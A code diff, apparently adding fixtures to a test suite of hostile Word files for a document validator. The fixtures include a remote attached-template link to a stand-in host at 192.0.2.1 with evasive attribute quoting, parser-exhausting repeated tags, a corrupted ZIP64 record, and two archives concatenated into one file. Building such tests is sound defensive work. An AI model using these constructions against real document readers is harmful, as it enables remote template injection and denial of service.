@@ -51,5 +51,34 @@ export const hostileDocx = {
     docx(paragraph('Dear colleague'), [
       { name: 'word/_rels/settings.xml.rels', data: relations(external('attachedTemplate', 'http://192.0.2.1/t.dotm')) },
     ]),
+  /** A `>` in an attribute, other quotation marks, a name space of its own. */
+  hiddenTemplate: () =>
+    docx(paragraph('Dear colleague'), [
+      {
+        name: 'word/_rels/settings.xml.rels',
+        data: utf8(
+          `<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship Id='a>b' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='http://192.0.2.1/t.dotm' TargetMode = 'External'/></p:Relationships>`,
+        ),
+      },
+    ]),
+  openBrackets: () =>
+    docx(paragraph('Dear colleague'), [
+      { name: 'word/header1.xml', data: utf8('<w:t '.repeat(300_000)) },
+      { name: 'docProps/app.xml', data: utf8('<Application '.repeat(200_000)) },
+      { name: 'word/_rels/settings.xml.rels', data: utf8(`<Relationship ${'TargetMode="External" '.repeat(100_000)}`) },
+    ]),
+  hiddenInCharacters: () => docx(`<w:p><w:r><w:t><![CDATA[${'<w:vanish '.repeat(300_000)}]]></w:t></w:r></w:p>`),
+  empty: () => docx('<w:p/>'.repeat(500_000)),
+  closersFirst: () => docx('</w:p>'.repeat(20_000) + '<w:tbl><w:tr><w:tc>'.repeat(20_000)),
+  sharedPart: () => docx(paragraph('x'), [{ name: 'word/header1.xml', data: utf8('x'), sharesDataOf: 2 }]),
+  /** The end of the table says that the true numbers stand elsewhere, and nothing stands there. */
+  zip64: () => {
+    const bytes = Buffer.from(docx(paragraph('x')))
+    const end = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 5, 6]))
+    bytes.fill(0xff, end + 8, end + 20)
+    return new Uint8Array(bytes)
+  },
+  /** Two Word files, one behind the other: which one is read depends on who reads. */
+  two: () => new Uint8Array(Buffer.concat([docx(paragraph('one')), docx(paragraph('other'))])),
   macro: () => docx(paragraph('Dear colleague'), [{ name: 'word/vbaProject.bin', data: utf8('VBA') }]),
 }
